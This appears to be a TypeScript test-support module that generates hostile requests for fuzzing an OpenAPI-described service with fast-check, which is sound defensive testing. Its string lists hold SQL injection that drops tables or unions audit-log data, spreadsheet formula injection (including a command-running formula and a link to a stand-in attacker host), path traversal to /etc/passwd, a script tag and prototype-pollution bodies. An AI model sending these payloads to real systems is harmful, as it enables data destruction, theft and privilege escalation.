import fc from "fast-check";

/**
 * Generators of hostile requests for the OpenAPI-driven fuzzer (fuzz.property.test.ts): values
 * made from an operation's own schemas, then broken — wrong types, missing and unknown fields,
 * huge and odd unicode, NUL bytes, SQL and formula injection, personnummer, deep JSON, ids out
 * of range, repeated parameters, bad media types and bad JSON.
 */

export type JsonSchema = { readonly [key: string]: unknown };

export interface DocumentParameter {
  readonly name: string;
  readonly in: "path" | "query" | "header" | "cookie";
  readonly required?: boolean;
  readonly schema?: JsonSchema;
}

export interface DocumentOperation {
  readonly operationId?: string;
  readonly parameters?: readonly DocumentParameter[];
  readonly requestBody?: { readonly content?: Record<string, { readonly schema?: JsonSchema }> };
  readonly responses: Record<string, unknown>;
}

export interface FuzzDocument {
  readonly paths: Record<string, Record<string, DocumentOperation>>;
  readonly components: { readonly schemas: Record<string, JsonSchema> };
}

/** One operation of the document with what the generators need. */
export interface FuzzOperation {
  readonly method: string;
  readonly path: string;
  readonly key: string;
  readonly parameters: readonly DocumentParameter[];
  /** The body's media type and schema (refs resolved on use), if the operation takes a body. */
  readonly body?: { readonly mediaType: string; readonly schema: JsonSchema };
  readonly documentedStatuses: ReadonlySet<number>;
}

export function fuzzOperations(doc: FuzzDocument): FuzzOperation[] {
  return Object.entries(doc.paths).flatMap(([path, item]) =>
    Object.entries(item).map(([method, op]) => {
      const [mediaType, media] = Object.entries(op.requestBody?.content ?? {})[0] ?? [];
      const body = mediaType === undefined ? undefined : { mediaType, schema: media?.schema ?? {} };
      return {
        method: method.toUpperCase(),
        path,
        key: `${method.toUpperCase()} ${path}`,
        parameters: op.parameters ?? [],
        ...(body === undefined ? {} : { body }),
        documentedStatuses: new Set(Object.keys(op.responses).map(Number)),
      };
    }),
  );
}

/** A marker inside the hostile strings: an error answer that contains it echoed the input. */
export const echoMarker = "ZqXfuzz";

const deepArray = `${"[".repeat(10_000)}${"]".repeat(10_000)}`;
const deepObject = `${'{"a":'.repeat(5_000)}1${"}".repeat(5_000)}`;

/** Strings that have broken programs before; several carry `echoMarker`. */
export const hostileStrings: readonly string[] = [
  "",
  " ",
  "\u0000",
  `a\u0000${echoMarker}`,
  `${echoMarker}'; DROP TABLE cases; --`,
  `' OR '1'='1' -- ${echoMarker}`,
  `1) UNION SELECT role, sub FROM audit_log -- ${echoMarker}`,
  `=cmd|' /C calc'!A0${echoMarker}`,
  `=HYPERLINK("http://evil.example/?${echoMarker}")`,
  `+1+1${echoMarker}`,
  `-2+3${echoMarker}`,
  `@SUM(1)${echoMarker}`,
  `\t=1${echoMarker}`,
  `\r=1${echoMarker}`,
  "19121212-1212",
  "121212-1212",
  "191212121212",
  `${echoMarker} 19121212+1212`,
  `𝕊𝖆𝖒𝖘𝖞𝖓 👩‍👩‍👧‍👦 ${echoMarker}`,
  `\u202Eevil\u202C ${echoMarker}`,
  `مرحبا بالعالم ${echoMarker}`,
  `e\u0301\u0301\u0301\u0301${echoMarker}`,
  `\uFFFD${echoMarker}`,
  `\uD800${echoMarker}`,
  `\uDFFF\uD800${echoMarker}`,
  "\uFEFF",
  `../../../etc/passwd${echoMarker}`,
  `<script>alert(1)</script>${echoMarker}`,
  "%00",
  "%",
  "null",
  "undefined",
  "NaN",
  "-1",
  "9223372036854775808",
  "1e309",
  "0x10",
  "2026-02-30",
  "2026-13-01",
  "+275760-09-13",
  "0000-00-00",
  "00000000-0000-0000-0000-000000000000",
  `ö${"ä".repeat(70_000)}${echoMarker}`,
  `${"x".repeat(20_000)}${echoMarker}`,
  `${"𝕊".repeat(5_000)}${echoMarker}`,
];

export const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileStrings) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
);

const hostileNumber = fc.constantFrom(
  -1,
  0,
  -0,
  0.5,
  -3,
  2 ** 31,
  2 ** 53 + 2,
  2 ** 63,
  -(2 ** 63),
  1e308,
  Number.MAX_SAFE_INTEGER,
);

/** Anything in the wrong place: strings, numbers, null, empty and nested containers. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  hostileNumber,
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.constant({ __proto__: { role: "admin" } }),
  fc.array(hostileString, { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), hostileString, { maxKeys: 3 }),
);

/** Path ids out of range or of the wrong kind; encoded as a client would put them in a URL. */
export const hostileId = fc.oneof(
  fc.constantFrom(
    "-1",
    "0",
    "1.5",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551616",
    "99999999999999999999999999",
    "1e3",
    "NaN",
    "Infinity",
    "0x10",
    "%201",
    "abc",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "00000000-0000-0000-0000-00000000000g",
    "0000000000000000000000000000000000",
    "%2e%2e",
    "%F0%9F%92%A9",
    "1%20OR%201%3D1",
    "9".repeat(400),
  ),
  fc.uuid().map(String),
  hostileString.map((s) => pathSegment(s.slice(0, 300))),
);

/** `s` as a path segment; a lone surrogate, which has no UTF-8, goes as its raw (invalid) bytes. */
function pathSegment(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return "%ED%A0%80";
  }
}

function deref(schema: JsonSchema, doc: FuzzDocument): JsonSchema {
  const ref = schema.$ref;
  if (typeof ref !== "string") return schema;
  const name = ref.replace("#/components/schemas/", "");
  return deref(doc.components.schemas[name] ?? {}, doc);
}

function isoDate(date: Date): string {
  return date.toISOString().slice(0, 10);
}

const dates = fc
  .date({ min: new Date("2019-01-01"), max: new Date("2027-12-31"), noInvalidDate: true })
  .map(isoDate);

/**
 * A value of `schema` that would mostly pass; with `hostileLeaves`, some strings are hostile,
 * so a request passes the shape check and takes a hostile text as far as the database.
 */
export function schemaValue(
  schema: JsonSchema,
  doc: FuzzDocument,
  hostileLeaves: boolean,
  depth = 0,
): fc.Arbitrary<unknown> {
  const s = deref(schema, doc);
  if (depth > 5) return fc.constant(null);
  if ("const" in s) return fc.constant(s.const);
  if (Array.isArray(s.enum) && s.enum.length > 0) return fc.constantFrom(...(s.enum as unknown[]));
  const variants = (s.anyOf ?? s.oneOf ?? s.allOf) as JsonSchema[] | undefined;
  if (Array.isArray(variants) && variants.length > 0) {
    return fc.oneof(...variants.map((v) => schemaValue(v, doc, hostileLeaves, depth + 1)));
  }
  const types = (Array.isArray(s.type) ? s.type : [s.type]) as (string | undefined)[];
  const type = types.find((t) => t !== "null");
  const nullable = types.includes("null");
  const value = ofType(type, s, doc, hostileLeaves, depth);
  return nullable ? fc.oneof(value, fc.constant(null)) : value;
}

function ofType(
  type: string | undefined,
  s: JsonSchema,
  doc: FuzzDocument,
  hostileLeaves: boolean,
  depth: number,
): fc.Arbitrary<unknown> {
  const examples = [
    ...((Array.isArray(s.examples) ? s.examples : []) as unknown[]),
    ...(s.example === undefined ? [] : [s.example]),
  ];
  switch (type) {
    case "string": {
      const plain =
        s.format === "date"
          ? dates
          : s.format === "uuid"
            ? fc.uuid().map(String)
            : examples.length > 0
              ? fc.constantFrom(...examples)
              : fc.string({
                  minLength: typeof s.minLength === "number" ? s.minLength : 0,
                  maxLength: Math.min(typeof s.maxLength === "number" ? s.maxLength : 20, 20),
                });
      return hostileLeaves
        ? fc.oneof({ weight: 2, arbitrary: plain }, { weight: 1, arbitrary: hostileString })
        : plain;
    }
    case "integer":
    case "number": {
      const min = typeof s.minimum === "number" ? s.minimum : -5;
      const max = typeof s.maximum === "number" ? s.maximum : 1000;
      const plain = fc.integer({ min: Math.max(min, -1e6), max: Math.min(max, 1e6) });
      return hostileLeaves ? fc.oneof(plain, hostileNumber) : plain;
    }
    case "boolean":
      return fc.boolean();
    case "array": {
      const items = (s.items ?? {}) as JsonSchema;
      const maxLength = Math.min(typeof s.maxItems === "number" ? s.maxItems : 3, 3);
      const minLength = Math.min(typeof s.minItems === "number" ? s.minItems : 0, maxLength);
      return fc.array(schemaValue(items, doc, hostileLeaves, depth + 1), { minLength, maxLength });
    }
    case "object": {
      const properties = (s.properties ?? {}) as Record<string, JsonSchema>;
      const required = (s.required ?? []) as string[];
      const shape = Object.fromEntries(
        Object.entries(properties).map(([k, v]) => [
          k,
          schemaValue(v, doc, hostileLeaves, depth + 1),
        ]),
      );
      return fc.record(shape, { requiredKeys: required.filter((k) => k in shape) });
    }
    default:
      return examples.length > 0 ? fc.constantFrom(...examples) : hostileValue;
  }
}

/** How a JSON body is broken. */
const bodyMutation = fc.constantFrom(
  "as-is",
  "hostile-field",
  "missing-required",
  "extra-field",
  "wrong-top-level",
);

function mutate(
  value: unknown,
  mutation: string,
  pick: number,
  replacement: unknown,
  required: readonly string[],
): unknown {
  if (mutation === "wrong-top-level") return replacement;
  if (value === null || typeof value !== "object" || Array.isArray(value)) return value;
  const record = { ...(value as Record<string, unknown>) };
  const keys = Object.keys(record);
  switch (mutation) {
    case "hostile-field": {
      const key = keys[pick % Math.max(keys.length, 1)];
      if (key !== undefined) record[key] = replacement;
      return record;
    }
    case "missing-required": {
      const key = required[pick % Math.max(required.length, 1)];
      if (key !== undefined) delete record[key];
      return record;
    }
    case "extra-field":
      return {
        ...record,
        [["role", "id", "createdBy", "orgs", "__proto__"][pick % 5] ?? "x"]: replacement,
      };
    default:
      return record;
  }
}

/** Request bodies that are not JSON at all, or JSON that is too deep or not the expected kind. */
export const rawBodies: readonly (string | Uint8Array)[] = [
  "",
  '{"a":',
  "{'single': 'quotes'}",
  "[1,2,",
  "\uFEFF{}",
  "null",
  "1",
  '"text"',
  "true",
  "NaN",
  '{"a":1,"a":2}',
  '{"__proto__":{"role":"admin"},"constructor":{"prototype":{"x":1}}}',
  `{"text":"\\u0000${echoMarker}"}`,
  `{"text":"\\ud800"}`,
  deepArray,
  deepObject,
  new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
];

const wrongMediaTypes = [
  undefined,
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/jsonp",
  "application/json; charset=latin1",
  "text/csv",
  "application/xml",
];

export interface FuzzRequest {
  readonly path: string;
  readonly method: string;
  readonly headers: Record<string, string>;
  readonly body?: string | Uint8Array | FormData;
  /** What was done to the request, for the failure message. */
  readonly story: string;
}

/**
 * A hostile request for `op`. `realIds` gives existing objects for a path parameter (by path
 * and name), so that some requests get past the 404 and into the handlers' checks.
 */
export function fuzzRequest(
  op: FuzzOperation,
  doc: FuzzDocument,
  realIds: (path: string, name: string) => readonly string[],
): fc.Arbitrary<FuzzRequest> {
  const pathParams = op.parameters.filter((p) => p.in === "path");
  const queryParams = op.parameters.filter((p) => p.in === "query");
  const pathValues = fc.tuple(
    ...pathParams.map((p) => {
      const real = realIds(op.path, p.name);
      return real.length > 0
        ? fc.oneof(
            { weight: 3, arbitrary: fc.constantFrom(...real) },
            { weight: 1, arbitrary: hostileId },
          )
        : hostileId;
    }),
  );
  const queryValue = (p: DocumentParameter) =>
    fc.oneof(
      { weight: 3, arbitrary: schemaValue(p.schema ?? {}, doc, false).map(queryText) },
      { weight: 2, arbitrary: hostileString.map((s) => s.slice(0, 4_000)) },
      { weight: 1, arbitrary: hostileId },
    );
  const query = fc.tuple(
    ...queryParams.map((p) =>
      fc.oneof(
        { weight: 1, arbitrary: fc.constant<string[]>([]) },
        { weight: 3, arbitrary: queryValue(p).map((v) => [v]) },
        // A parameter given twice or thrice: `?limit=1&limit=x`.
        { weight: 1, arbitrary: fc.array(queryValue(p), { minLength: 2, maxLength: 3 }) },
      ),
    ),
  );
  const extraQuery = fc.array(
    fc.tuple(fc.constantFrom("x", "limit", "__proto__", "a[b]", "a\u0000"), hostileString),
    {
      maxLength: 2,
    },
  );
  return fc
    .record({
      pathValues,
      query,
      extraQuery,
      body: op.body === undefined ? fc.constant(undefined) : bodyFor(op.body, doc),
    })
    .map(({ pathValues: values, query: chosen, extraQuery: extra, body }) => {
      let path = op.path;
      pathParams.forEach((p, i) => {
        path = path.replace(`{${p.name}}`, values[i] ?? "");
      });
      const search = new URLSearchParams();
      queryParams.forEach((p, i) => {
        for (const v of chosen[i] ?? []) search.append(p.name, v);
      });
      for (const [name, v] of extra) search.append(name, v.slice(0, 2_000));
      const qs = search.toString();
      return {
        path: qs === "" ? path : `${path}?${qs}`,
        method: op.method,
        headers: body?.headers ?? {},
        ...(body?.body === undefined ? {} : { body: body.body }),
        story: body?.story ?? "no body",
      };
    });
}

function queryText(value: unknown): string {
  return typeof value === "string" ? value : (JSON.stringify(value) ?? "");
}

interface FuzzBody {
  readonly headers: Record<string, string>;
  readonly body?: string | Uint8Array | FormData;
  readonly story: string;
}

function bodyFor(
  body: NonNullable<FuzzOperation["body"]>,
  doc: FuzzDocument,
): fc.Arbitrary<FuzzBody> {
  const raw = fc.constantFrom(...rawBodies).map((b) => ({
    headers: { "Content-Type": body.mediaType },
    body: b,
    story: `raw body ${typeof b === "string" ? b.slice(0, 40) : `bytes ${[...b].join(",")}`}`,
  }));
  const wrongType = fc
    .record({
      type: fc.constantFrom(...wrongMediaTypes),
      text: fc.constantFrom('{"a":1}', "a,b\r\n1,2\r\n", ""),
    })
    .filter(({ type }) => type !== body.mediaType)
    .map(({ type, text }) => ({
      headers: type === undefined ? {} : { "Content-Type": type },
      body: text,
      story: `Content-Type ${type}`,
    }));
  if (body.mediaType === "application/json") {
    const resolved = deref(body.schema, doc);
    const required = (resolved.required ?? []) as string[];
    const json = fc
      .record({
        value: schemaValue(resolved, doc, true),
        mutation: bodyMutation,
        pick: fc.nat(),
        replacement: hostileValue,
      })
      .map(({ value, mutation, pick, replacement }) => {
        const broken = mutate(value, mutation, pick, replacement, required);
        return {
          headers: { "Content-Type": "application/json" },
          body: JSON.stringify(broken) ?? "null",
          story: `JSON (${mutation})`,
        };
      });
    return fc.oneof(
      { weight: 6, arbitrary: json },
      { weight: 2, arbitrary: raw },
      { weight: 1, arbitrary: wrongType },
    );
  }
  if (body.mediaType === "multipart/form-data") {
    const form = fc
      .array(fc.tuple(fc.constantFrom("units", "cases", "events", "other", "units"), hostileCsv), {
        maxLength: 4,
      })
      .map((parts) => {
        const data = new FormData();
        for (const [name, text] of parts) data.append(name, new Blob([text]), `${name}.csv`);
        return { headers: {}, body: data, story: `multipart ${parts.map(([n]) => n).join(",")}` };
      });
    return fc.oneof(form, raw, wrongType);
  }
  const text = hostileCsv.map((csv) => ({
    headers: { "Content-Type": body.mediaType },
    body: csv,
    story: "hostile CSV",
  }));
  return fc.oneof(text, raw, wrongType);
}

/** CSV-like text a spreadsheet or an attacker might send. */
export const hostileCsv: fc.Arbitrary<string | Uint8Array> = fc.oneof(
  fc
    .array(
      fc.array(
        hostileString.map((s) => s.slice(0, 200)),
        { maxLength: 6 },
      ),
      { maxLength: 5 },
    )
    .map((rows) => rows.map((r) => r.join(",")).join("\r\n")),
  fc.constantFrom(
    "",
    "\uFEFF",
    'a,"b\r\n1,2',
    "a;b;c\r\n1;2;3\r\n",
    `${"a,".repeat(5_000)}\r\n`,
    `"${echoMarker}""\r\n`,
  ),
  fc.uint8Array({ maxLength: 64 }),
);
